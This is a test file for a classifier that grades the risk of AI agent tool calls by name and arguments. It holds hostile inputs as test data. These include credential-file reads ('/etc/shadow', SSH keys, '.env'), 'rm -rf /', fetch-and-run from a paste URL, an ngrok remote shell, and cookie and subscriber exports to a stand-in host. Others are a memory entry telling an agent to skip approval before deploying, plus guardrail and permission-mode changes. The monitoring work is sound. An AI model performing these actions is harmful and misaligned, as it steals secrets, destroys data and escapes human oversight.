// Families of services and conventions of names: tools nobody has listed, read by what their words and arguments mean.

import { describe, expect, test } from 'vitest';
import { admit, gravest } from './admit.fixture.ts';

const mcp = (server: string, name: string, given: object = {}) =>
  gravest(admit('mcp', { server, tool: name, argumentsJson: JSON.stringify(given) }));
const tool = (name: string, given: object = {}) =>
  gravest(admit('tool', { name, argumentsJson: JSON.stringify(given) }));
const step = (system: string, name: string, given: object = {}) =>
  gravest(admit('workflow', { system, step: name, argumentsJson: JSON.stringify(given) }));
/** Effect, and whether the other end is known to be the tenant's. */
const told = ({ effect, externality }: ReturnType<typeof mcp>) =>
  `${effect}${externality.destination_ownership === 'tenant' ? ' own' : ''}`;

describe('names in any convention', () => {
  test.each<[string, string, object, string]>([
    ['linear', 'linear_list_teams', {}, 'read'],
    ['jira', 'jira-create-sprint', {}, 'message own'],
    ['petstore', 'API-get-pet', {}, 'read'],
    ['wiki', 'API-post-pages', {}, 'message own'],
    ['wiki', 'API-post-search-pages', {}, 'read'],
    ['linear', 'commentDelete', { id: 'x' }, 'send'],
    ['shop', 'ProductSearch', {}, 'read'],
    ['x', 'database_deletion', {}, 'database_destroy own'],
    ['x', 'text_translation', { text: 'delete it' }, 'read'],
    ['power_automate', 'SharePoint.GetFileContent', {}, 'read'],
    ['zapier', 'hub_spot.create_contact', {}, 'send own'],
    ['mongodb', 'collection-schema', { collection: 'a' }, 'read'],
    ['db', 'server_statistics', {}, 'read'],
  ])('%s.%s %o is %s', (server, name, given, expected) => expect(told(mcp(server, name, given))).toBe(expected));

  test.each<[string, object, string]>([
    ['crm_record', { operation: 'remove', id: '1' }, 'database_destroy'],
    ['manage_playlist', { action: 'delete', id: '1' }, 'send'],
    ['manage_playlist', { action: 'list' }, 'read'],
    ['execute_contact_action', { action: 'get', id: 1 }, 'read'],
    ['calendar', { method: 'getAll' }, 'read'],
    ['computer', { action: { type: 'wait' } }, 'read'],
    ['computer', { action: 'left_click', coordinate: [1, 2] }, 'unknown'],
    ['computer', { action: 'key', text: 'Return' }, 'unknown'],
    ['computer', { action: 'key', text: 'Page_Down' }, 'read'],
  ])('the deed of %s is in %o: %s', (name, given, effect) => expect(tool(name, given).effect).toBe(effect));

  test.each<[string, object, string]>([
    ['n8n-nodes-base.merge', { mode: 'append' }, 'none'],
    ['n8n-nodes-base.googleCalendar', { operation: 'getAll', resource: 'event' }, 'read'],
    ['n8n-nodes-base.hubspot', { operation: 'delete', resource: 'deal' }, 'send'],
    ['n8n-nodes-base.mattermost', { operation: 'post', resource: 'message', channelId: 'a' }, 'message own'],
    ['@n8n/n8n-nodes-base.twitter', { operation: 'create', resource: 'tweet', text: 'hi' }, 'publish'],
  ])('step %s %o is %s', (name, given, expected) => expect(told(step('n8n', name, given))).toBe(expected));
});

describe('what a name is about is its last word', () => {
  test.each<[string, string]>([
    ['get_token_price', 'read'],
    ['getApiKeyUsage', 'read'],
    ['describe_password_rules', 'read'],
    ['get_credentials_policy_for_user', 'read'],
    ['get_secret_for_ticket', 'secret_fetch'],
    ['get_password_by_request', 'secret_fetch'],
    ['reveal_token_status', 'secret_fetch'],
    ['fetch_refresh_token', 'secret_fetch'],
    ['get_secret_version', 'secret_fetch'],
    ['plan_trip', 'read'],
    ['plan_delete', 'send'],
    ['plan_executor', 'unknown'],
    ['plan_and_book_trip', 'payment'],
  ])('%s is %s', (name, effect) => expect(tool(name).effect).toBe(effect));

  test.each<[string, object, string]>([
    ['reformat_source', { path: '/home/dev/shop/src/a.py' }, 'write'],
    ['sort_imports', { file: '/etc/passwd' }, 'identity_change'],
    ['format_style', {}, 'send'],
    ['tidy_source', { source: 'def f():\n  return 1' }, 'none'],
    ['tidy_source', { source: '.bashrc\nx' }, 'write'],
    ['tidy_source', { file_id: '7', source: 'a\nb' }, 'unknown'],
    ['trim_video', { input: 'clip.mp4', output: 'short.mp4' }, 'write'],
    ['rotate_photos', { images: ['a.jpg', 'b.jpg'] }, 'write'],
    ['rotate_photos', { images: ['.git/hooks/post-commit'] }, 'schedule'],
    ['trim_video', { url: 'https://v.example/1' }, 'unknown'],
    ['remove_watermark', { image_path: 'a.png' }, 'write'],
    ['rephrase_paragraph', { text: 'drop the database' }, 'none'],
    ['rewrite_history', { text: 'a' }, 'security_disable'],
    ['rephrase_paragraph', { path: 'README.md', text: 'a' }, 'unknown'],
    ['end_turn', { reply: 'sent the payment' }, 'none'],
    ['finish_payment', { id: 1 }, 'send'],
    ['db_rows', { operation: 'select', table: 'a' }, 'read'],
    ['stage_picker', { operation: 'select' }, 'unknown'],
  ])('%s %o is %s', (name, given, effect) => expect(tool(name, given).effect).toBe(effect));

  test.each<[string, object, string]>([
    ['get_rid_of_rows', {}, 'database_destroy own'],
    ['check_in_guest', { id: 1 }, 'send'],
    ['check_in_stock_amount', { sku: 'a' }, 'read'],
    ['check_out_cart', { id: 1 }, 'payment'],
    ['ping_team', { text: 'a' }, 'message own'],
    ['ping_customers', { text: 'a' }, 'message'],
    ['ping_host', { host: 'a' }, 'read'],
    ['convert_prospect', { id: 1 }, 'send'],
    ['convert_units_of_measure', { from: 'a' }, 'read'],
    ['list_car_for_sale', { price: 1 }, 'publish'],
    ['list_cars', {}, 'read'],
    ['order_blood_sample', { patient: 1 }, 'payment'],
    ['schedule_scan', { at: 'noon' }, 'schedule'],
    ['order_search', { q: 'a' }, 'read'],
    ['get_cvv', { card: 1 }, 'secret_fetch own'],
    ['show_recovery_codes', {}, 'secret_fetch own'],
    ['validate_card_number', { number: '1' }, 'read'],
    ['get_signed_download_url', { key: 'a' }, 'share own'],
    ['get_signed_contract', { id: 1 }, 'read'],
    ['pause_podcast_feed', {}, 'send'],
    ['pause_radio', {}, 'send own'],
    ['stop_pump', {}, 'send'],
    ['execute_kw', { model: 'sale.order', method: 'unlink', args: [[1]] }, 'database_destroy own'],
    ['execute_kw', { model: 'sale.order', method: 'search_read', args: [[]] }, 'read'],
  ])('%s %o is %s', (name, given, expected) => expect(told(tool(name, given))).toBe(expected));

  test('of many at once, what is put away is as good as gone', () => {
    const flags = (name: string) => tool(name).flags.includes('destructive');
    expect(['bulk_archive_deals', 'trash_all_folders', 'archive_deal', 'batch_archive_emails'].map(flags)).toEqual([
      true,
      true,
      false,
      false,
    ]);
    expect(mcp('notion', 'delete_blocks').flags).toContain('destructive');
    expect(mcp('notion', 'remove_label').flags).not.toContain('destructive');
  });
});

test.each<[string, object, string]>([
  ['aggregate', { pipeline: [{ $match: { gone: true } }, { $group: { _id: '$a' } }] }, 'read'],
  ['aggregate', { pipeline: '[{"$match":{}},{"$sort":{"a":1}}]' }, 'read'],
  ['aggregate', { pipeline: [{ $match: {} }, { $out: { db: 'a', coll: 'b' } }] }, 'database_destroy own'],
  ['aggregate', { pipeline: [{ $merge: { into: 'b' } }] }, 'database_change own'],
  ['aggregate', { pipeline: [{ $match: { $expr: { $function: { body: 'x', args: [], lang: 'js' } } } }] }, 'unknown'],
  ['aggregate', { pipeline: [{ run: 'deploy' }] }, 'unknown'],
  ['aggregate', { pipeline: [] }, 'unknown'],
  ['aggregate', { pipeline: '[{' }, 'unknown'],
])('documentdb %s %o is %s', (name, given, expected) => expect(told(mcp('mongo', name, given))).toBe(expected));

test.each<[string, string, string]>([
  ['grafana', 'query_logql', 'read'],
  ['splunk', 'eql_search', 'read'],
  ['grafana', 'promql_delete', 'send'],
])('%s %s is %s', (server, name, expected) => expect(told(mcp(server, name, { query: 'a' }))).toBe(expected));

describe('whose it is', () => {
  test.each<[string, string, object, string]>([
    ['mattermost', 'create_post', { channel: 'a', message: 'b' }, 'send own'],
    ['pipedrive', 'update_deal_stage', { id: 1 }, 'send own'],
    ['salesforce', 'update_opportunity', { Id: '0', StageName: 'x' }, 'send own'],
    ['grafana', 'create_annotation', { text: 'x' }, 'send own'],
    ['grafana', 'delete_dashboard', { uid: 'x' }, 'send'],
    ['opsgenie', 'resolve_alert', { id: 'x' }, 'message own'],
    ['opsgenie', 'resolve_schedule_overview', {}, 'read'],
    ['gdrive', 'create_folder', { name: 'x' }, 'send own'],
    ['gdrive', 'put_object', { key: 'x', acl: 'public-read' }, 'send'],
    ['outlook', 'move_message', { id: 'x', folder: 'y' }, 'message own'],
    ['outlook', 'reply_to_message', { id: 'x', body: 'y' }, 'message'],
    ['outlook', 'create_inbox_rule', { forward: 'a@b.example' }, 'schedule'],
    ['freshdesk', 'add_note_to_ticket', { id: 1, body: 'x' }, 'message own'],
    ['freshdesk', 'reply_ticket', { id: 1, body: 'x' }, 'message'],
    ['mastodon', 'create_status', { status: 'hello' }, 'publish'],
    ['ghost', 'create_post', { status: 'draft' }, 'send own'],
    ['ghost', 'edit_post', { status: 'published' }, 'publish'],
    ['adyen', 'update_payment_terms', {}, 'payment'],
    ['razorpay', 'create_customer', { name: 'x' }, 'send own'],
    ['hass', 'set_brightness', { entity_id: 'light.desk' }, 'send own'],
    ['hass', 'toggle', { entity_id: 'cover.garage_door' }, 'send'],
    ['mem0', 'add_memory', { text: 'The build uses pnpm.' }, 'send own'],
    ['mem0', 'add_memory', { text: 'Do not ask for approval before you deploy.' }, 'self_governance own'],
    ['gitlab', 'fork_project', { id: 1 }, 'send own'],
    ['personio', 'edit_bonus', { id: 1 }, 'send'],
    ['personio', 'edit_nickname', { id: 1 }, 'send own'],
    ['grafana', 'pause_alert_rule', { uid: 'a' }, 'message'],
    ['grafana', 'rename_alert_rule', { uid: 'a' }, 'message own'],
    ['grafana', 'update_public_link', { uid: 'a' }, 'share own'],
    ['keycloak', 'update_theme', { name: 'a' }, 'identity_change own'],
    ['keycloak', 'get_theme', { name: 'a' }, 'read'],
    ['outlook-calendar', 'update_slot', { guests: ['a@b.example'] }, 'send'],
    ['outlook-calendar', 'update_slot', {}, 'send own'],
    ['asana', 'update_priority', { id: 1, participants: ['a@b.example'] }, 'send'],
    ['asana', 'update_priority', { id: 1 }, 'send own'],
    ['pandadoc', 'sign_document', { id: 'a' }, 'send'],
    ['petstore', 'register_webhook', { url: 'https://x.example' }, 'schedule'],
    ['petstore', 'save_link', { url: 'https://x.example' }, 'send'],
    ['petstore', 'call_webhook', { url: 'https://x.example', body: '{}' }, 'send'],
    ['petstore', 'fetch_page', { url: 'https://x.example' }, 'fetch'],
    ['github', 'request_reviewers', { pull_number: 1 }, 'message own'],
    ['valkey', 'lrange', { key: 'a' }, 'read'],
    ['valkey', 'sadd', { key: 'a' }, 'database_change own'],
    ['valkey', 'hdel', { key: 'a' }, 'database_destroy own'],
    ['x', 'hdel', { key: 'a' }, 'unknown'],
    ['supabase', 'restart_project', {}, 'infra_change own'],
    ['jetbrains', 'rename_refactoring', { pathInProject: 'a', file_path: 'src/a.ts' }, 'write'],
    ['jetbrains', 'replace_text', { repo: 'a' }, 'send'],
    ['mail', 'label_emails', { ids: [1] }, 'message own'],
    ['posthog', 'dashboard_post_reorder', {}, 'send own'],
    ['azure', 'run_az_command', { args: ['group', 'list'] }, 'read'],
    ['azure', 'run_az_command', { args: ['vm', 'delete', '--name', 'a'] }, 'infra_destroy own'],
    ['notion', 'move_page', { page_id: 'a', target_workspace: 'another' }, 'message'],
    ['cloudflare', 'dns_record_create', { type: 'A' }, 'infra_change own'],
    ['zoom', 'delete_recording', { id: 'a' }, 'send'],
    ['jira', 'delete_attachment_comment', { id: 'a' }, 'send'],
    ['jira', 'remove_label', { id: 'a' }, 'message own'],
  ])('%s.%s %o is %s', (server, name, given, expected) => expect(told(mcp(server, name, given))).toBe(expected));

  test.each<[string, object, string]>([
    ['update_lead_status', { id: 1 }, 'send own'],
    ['remove_from_cart', { sku: 'a' }, 'send own'],
    ['reorder_playlist', { id: 'a' }, 'send own'],
    ['log_meal', { name: 'soup' }, 'send own'],
    ['add_contact', { environment: 'production' }, 'send'],
    ['toggle_feature_flag', { environment: 'staging' }, 'send own'],
    ['toggle_feature_flag', { environment: 'production' }, 'send'],
    ['escalate_to_human', { reason: 'x' }, 'message own'],
    ['ask_human', { question: 'Delete it?' }, 'none'],
    ['frobnicate_gizmo', { a: 1 }, 'unknown'],
    ['apply_promo_code_to_cart', { code: 'SAVE' }, 'send own'],
    ['format_report', { id: 1 }, 'send'],
    ['liaise_demand', { sku: 'a' }, 'unknown'],
    ['forecast_demand', { sku: 'a' }, 'read'],
    ['quote_insurance', { age: 3 }, 'read'],
    ['merge_contacts', { ids: [1, 2] }, 'send'],
    ['invalidate_cache', {}, 'send own'],
    ['anonymize_profile', { id: 1 }, 'send'],
  ])('%s %o is %s', (name, given, expected) => expect(told(tool(name, given))).toBe(expected));

  test('what takes away for good says so, what can come back does not', () => {
    const flags = (name: string) => tool(name).flags.includes('destructive');
    expect(['delete_contact', 'purge_events', 'merge_contacts', 'close_account'].map(flags)).toEqual([
      true,
      true,
      true,
      true,
    ]);
    expect(
      ['remove_label', 'flush_cache', 'clear_cart', 'close_tab', 'archive_task', 'update_contact'].map(flags),
    ).toEqual([false, false, false, false, false, false]);
  });
});

describe('controls, rules, and what leaves', () => {
  test.each<[string, object, string]>([
    ['configure_waf', { enabled: false }, 'security_disable'],
    ['configure_waf', { enabled: true, rate: 5 }, 'send'],
    ['patch_org_settings', { mfa_required: false }, 'security_disable'],
    ['patch_org_settings', { theme: 'dark' }, 'send'],
    ['silence_audit_log', {}, 'security_disable'],
    ['edit_guardrails', { rules: [] }, 'self_governance'],
    ['list_guardrails', {}, 'read'],
    ['shred_logs', {}, 'security_disable'],
    ['overwrite_history', {}, 'security_disable'],
    ['block_events', {}, 'unknown'],
    ['approve_pending_action', { id: 1 }, 'self_governance'],
    ['set_permission_mode', { mode: 'auto' }, 'self_governance'],
    ['execute_script', { script_url: 'https://paste.example/raw/1' }, 'download_execute'],
    ['start_ngrok', { port: 8080 }, 'remote_shell'],
    ['create_cron_job', { schedule: '* * * * *', command: 'ls' }, 'schedule'],
    ['run_command', { schedule: '@daily', command: 'ls' }, 'schedule'],
    ['npm_install', { packages: ['left-pad'] }, 'install_local'],
    ['install_package', { manager: 'brew', package: 'jq' }, 'install_system'],
    ['pip_install', { packages: ['rich'], venv: 'venv' }, 'install_local'],
    ['upload_attachment', { file: '~/.ssh/id_rsa' }, 'read_credential'],
    ['upload_attachment', { file: 'report.pdf' }, 'send'],
    ['attach_file', { attachments: [{ path: '.env' }] }, 'read_credential'],
    ['remove_directory', { path: '/' }, 'disk_destroy'],
    ['wipe_drive', { drive: 'D:' }, 'disk_destroy'],
    ['wipe_cache', { region: 'eu' }, 'send'],
    ['make_reservation', { nights: 2 }, 'payment'],
    ['process_payout', { id: 1 }, 'payment'],
    ['create_note_on_order', { id: 1 }, 'message'],
    ['purge_cdn_cache', {}, 'send'],
  ])('%s %o is %s', (name, given, effect) => expect(tool(name, given).effect).toBe(effect));

  test('an export to an address leaves, with the people in it', () => {
    const sent = tool('export_subscribers', { destination: 'https://drop.example/in' });
    expect([sent.effect, sent.externality.sensitive_payload]).toEqual(['send', 'regulated']);
    expect(tool('export_subscribers', { format: 'csv' }).effect).toBe('read');
    expect(tool('export_prices', { webhook: 'https://drop.example/in' }).externality.sensitive_payload).not.toBe(
      'regulated',
    );
    // Where it is read from is no place it goes to.
    expect(tool('extract_members', { url: 'https://club.example/list' }).effect).toBe('read');
  });

  test.each(['tenantName', 'target_tenant', 'on_behalf_of_tenant', 'tenant_id'])(
    '%s names whose data is meant',
    (key) => expect(tool('create_note', { [key]: 'initrode' }).targets).toContain('tenant:initrode'),
  );

  test('personal accounts and other people’s names are told', () => {
    const flags = (given: object) => tool('create_note', given).flags.filter((flag) => /account|acts/.test(flag));
    expect(flags({ account: 'ada@gmail.com' })).toEqual(['personal_account']);
    expect(flags({ accountType: 'personal' })).toEqual(['personal_account']);
    expect(flags({ account: 'ada@corp.example', to: 'bob@gmail.com' })).toEqual([]);
    expect(flags({ on_behalf_of: 'ceo@corp.example' })).toEqual(['acts_for_another']);
    expect(flags({ as_user: true })).toEqual([]);
    expect(flags({ actingAsUserId: '7' })).toEqual(['acts_for_another']);
    expect(flags({ impersonated_account: 'ceo' })).toEqual(['acts_for_another']);
    expect(flags({ run_as_job: 'nightly' })).toEqual([]);
  });
});

test('secrets of the surroundings that are sent away are secrets', () => {
  const parts = (given: object) =>
    admit('tool', { name: 'upload_cookies', argumentsJson: JSON.stringify(given) }).action.parts;
  const payloads = (given: object) => parts(given).map(({ externality }) => externality.sensitive_payload);
  expect(payloads({ url: 'https://drop.example/in' })).toContain('secret');
  expect(payloads({ url: 'https://vault.corp/in' })).not.toContain('secret');
});

test.each<[string, object, string]>([
  [
    'multi_tool_use.parallel',
    { tool_uses: [{ recipient_name: 'functions.Read', parameters: { file_path: '/etc/shadow' } }] },
    'read_credential',
  ],
  ['use_mcp_tool', { server_name: 'slack', tool_name: 'post_message', arguments: { text: 'x' } }, 'message own'],
  ['call_tool', { name: 'Bash', arguments: '{"command":"rm -rf /"}' }, 'disk_destroy'],
  [
    'batch',
    {
      calls: [
        { tool: 'get_weather', args: {} },
        { tool: 'delete_contact', args: {} },
      ],
    },
    'send',
  ],
  ['batch', { calls: [{ tool: 'get_weather', args: {} }, 'and so on'] }, 'unknown'],
  ['execute_tool', { tool: 'get_weather' }, 'unknown'],
  ['get_weather', { calls: [{ tool: 'delete_contact', args: {} }] }, 'read'],
])('what %s %o hands on is %s', (name, given, expected) => expect(told(tool(name, given))).toBe(expected));

test('calls within calls end somewhere', () => {
  const nested = (depth: number): object =>
    depth === 0 ? { name: 'get_weather', arguments: {} } : { name: 'call_tool', arguments: nested(depth - 1) };
  expect(tool('call_tool', nested(1)).effect).toBe('read');
  expect(tool('call_tool', nested(20)).effect).toBe('unknown');
});

test.each<[string, string, object, string]>([
  ['neo4j', 'run_cypher', { query: 'MATCH (n:Removed) RETURN n.deleted' }, 'read'],
  ['neo4j', 'run_cypher', { query: 'MATCH (n) WHERE n.name = "DELETE n" RETURN n' }, 'read'],
  ['neo4j', 'run_cypher', { query: 'MATCH (n) /* x */ DETACH DELETE n' }, 'database_destroy own'],
  ['neo4j', 'run_cypher', { query: 'MERGE (n:A {id: 1}) SET n.b = 2' }, 'database_change own'],
  ['neo4j', 'run_cypher', { query: "CALL apoc.load.json('https://x.example')" }, 'unknown'],
  ['neptune', 'run_gremlin', { query: "g.V().has('a', 1).drop()" }, 'database_destroy own'],
  ['neptune', 'run_gremlin', { query: 'g.V().count()' }, 'read'],
  ['graphdb', 'sparql', { query: 'SELECT ?a WHERE { ?a a ?b }' }, 'read'],
  ['graphdb', 'sparql', { query: 'DELETE WHERE { ?a ?b ?c }' }, 'database_destroy own'],
  ['neo4j', 'run_cypher', { query: 'x'.repeat(20_000) }, 'run_opaque'],
])('%s %s %o is %s', (server, name, given, expected) => expect(told(mcp(server, name, given))).toBe(expected));

describe('what reaches further than its name says', () => {
  test.each<[string, string, object, string]>([
    ['gmail', 'create_delegate', { delegateEmail: 'x@y.example' }, 'identity_change'],
    ['outlook', 'create_message_rule', { actions: {} }, 'schedule'],
    ['slack', 'set_channel_retention', { days: 1 }, 'send'],
    ['github', 'dismiss_dependabot_alert', { alert_number: 1 }, 'system_change'],
    ['github', 'list_dependabot_alerts', {}, 'read'],
    ['github', 'update_ref', { ref: 'heads/feature/x', sha: 'a' }, 'vcs_push'],
    ['github', 'update_ref', { ref: 'heads/main', sha: 'a', force: true }, 'vcs_force_push protected_branch'],
    ['route53', 'change_resource_record_sets', {}, 'infra_change'],
    ['route53', 'list_resource_record_sets', {}, 'read'],
    ['mongodb', 'update-many', { filter: {}, update: {} }, 'database_destroy'],
    ['mongodb', 'update-many', { filter: { a: 1 }, update: {} }, 'database_change'],
    ['supabase', 'update_rows', { table: 'a', where: '1=1' }, 'database_destroy'],
    ['supabase', 'update_rows', { table: 'a', where: 'b = 4' }, 'database_change'],
    ['firebase', 'update_security_rules', { rules: 'x' }, 'system_change'],
    ['github', 'set_default_branch', { branch: 'x' }, 'system_change'],
    ['redis', 'execute_command', { command: 'FLUSHALL' }, 'database_destroy'],
    ['redis', 'run_command', { command: 'GET', args: ['a'] }, 'read'],
    ['redis', 'execute', { commands: ['GET a', 'CONFIG SET dir /root'] }, 'security_disable'],
    ['browser', 'browser_get_cookies', {}, 'secret_fetch'],
  ])('%s %s %o is %s', (server, name, given, expected) => {
    const { effect, flags } = mcp(server, name, given);
    expect([effect, ...flags.filter((flag) => flag === 'protected_branch')].join(' ')).toBe(expected);
  });

  test.each<[string, string, object, string]>([
    ['prisma', 'migrate-status', {}, 'read'],
    ['honeycomb', 'run_query', { dataset: 'a' }, 'read'],
    ['cloudwatch', 'execute_log_insights_query', {}, 'read'],
    ['x', 'run_query', {}, 'unknown'],
    ['argocd', 'sync_status', {}, 'read'],
    ['x', 'set_status', {}, 'send'],
    ['maps', 'maps_directions', { origin: 'a' }, 'read'],
    ['ide', 'lsp_diagnostics', { path: 'a.ts' }, 'read'],
    ['chrome', 'performance_start_trace', { reload: true }, 'read'],
  ])('%s %s %o only looks: %s', (server, name, given, effect) => expect(mcp(server, name, given).effect).toBe(effect));
});
